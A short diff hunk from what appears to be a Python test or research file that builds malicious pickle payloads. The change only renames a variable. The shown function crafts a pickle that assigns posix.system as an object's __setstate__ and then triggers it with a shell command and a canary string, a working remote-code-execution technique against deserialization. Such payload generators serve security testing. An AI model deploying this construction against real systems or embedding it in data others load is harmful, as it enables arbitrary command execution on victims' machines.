@@ -127,8 +127,8 @@ def new_object_with_names(canary: str) -> bytes:
 
 def build(canary: str) -> bytes:
     """Give an object a `__setstate__` of its own, then have it called."""
-    own = b"}" + opcodes("__setstate__") + opcodes(Name("posix:system")) + b"sb"
-    return b"\x80\x04" + opcodes(Call("types:SimpleNamespace")) + own + opcodes(SHELL, canary) + b"b."
+    ours = b"}" + opcodes("__setstate__") + opcodes(Name("posix:system")) + b"sb"
+    return b"\x80\x04" + opcodes(Call("types:SimpleNamespace")) + ours + opcodes(SHELL, canary) + b"b."
 
 
 def other_sys(canary: str) -> bytes:
